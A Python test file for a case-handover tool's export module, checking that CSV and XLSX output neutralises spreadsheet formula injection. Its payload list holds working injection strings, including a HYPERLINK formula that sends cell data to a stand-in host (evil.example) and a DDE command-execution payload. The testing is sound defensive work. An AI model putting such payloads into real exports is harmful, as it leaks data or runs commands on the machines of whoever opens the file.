"""CSV injection (issue 14): no cell of a CSV or XLSX this tool writes can run as a spreadsheet formula.
A cell starting with = + - @, a tab, a line break or NUL (OWASP; ASVS 1.2.10) gets a single quote first;
in XLSX every text cell is typed as a string, never as a formula.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from handover.case import blank_case, dump_case
from handover.cli import main
from handover.export import (FORMULA_TRIGGERS, Table, neutralise, overdue_table, write_csv, write_csv_stream,
                             write_xlsx)
from handover.store.queries import OverdueItem

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=cmd|' /c calc'!A1", "+SUM(1,2)", "-2+3",
           "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1", "\uff1dSUM(1)"]


def _safe(cell: str) -> bool:
    return cell[:1] not in FORMULA_TRIGGERS


def test_neutralise_each_trigger_and_nothing_else():
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for text in ("Ada Example", "", "'already quoted", " =leading space", "2026-11-25", "a=b"):
        assert neutralise(text) == text


def _items():
    return [OverdueItem(f"SD-{i}", text, "step_down", text, text, "sent", "acknowledged", date(2026, 11, 9),
                        "overdue", 3) for i, text in enumerate(HOSTILE)]


def test_csv_export_neutralises_every_hostile_cell(tmp_path):
    path = tmp_path / "o.csv"
    assert write_csv(path, overdue_table(_items())) == len(HOSTILE)
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    for row in rows[1:]:
        assert all(_safe(c) for c in row), row
    assert rows[1][1] == "'" + HOSTILE[0]


def test_csv_stream_for_standard_output():
    buf = io.StringIO()
    assert write_csv_stream(buf, ("a", "b"), [(HOSTILE[1], 12), (None, date(2026, 1, 2))]) == 2
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["a", "b"], ["'" + HOSTILE[1], "12"], ["", "2026-01-02"]]


def test_xlsx_export_writes_strings_never_formulas(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "o.xlsx"
    table = Table(("text", "n", "when"), [(t, 1, date(2026, 11, 9)) for t in HOSTILE if "\0" not in t])
    write_xlsx(path, table)
    ws = load_workbook(path).active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert len(cells) == len(HOSTILE) - 1
    for cell in cells:
        assert cell.data_type == "s", (cell.value, cell.data_type)
        assert isinstance(cell.value, str) and cell.value.startswith("'"), cell.value
    assert all(row[1].value == 1 and row[1].data_type == "n" for row in ws.iter_rows(min_row=2))
    import zipfile

    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet        # not one formula in the file


def test_cli_overdue_csv_neutralises_formulas(tmp_path, capsys):
    db = f"sqlite:///{tmp_path / 'cli.sqlite3'}"
    c = blank_case("step_down", "CSV-1")
    c["child"].update(given_name=HOSTILE[0], family_name="Example")
    c["transition"]["decision_date"] = "2026-11-02"
    p = tmp_path / "case.json"
    p.write_text(dump_case(c), encoding="utf-8")
    assert main(["import", str(p), "--db", db, "--team", HOSTILE[1]]) == 0
    capsys.readouterr()
    assert main(["overdue", "--db", db, "--as-of", "2026-11-25", "--format", "csv"]) == 1
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) > 1
    for row in rows[1:]:
        assert all(_safe(cell) for cell in row), row
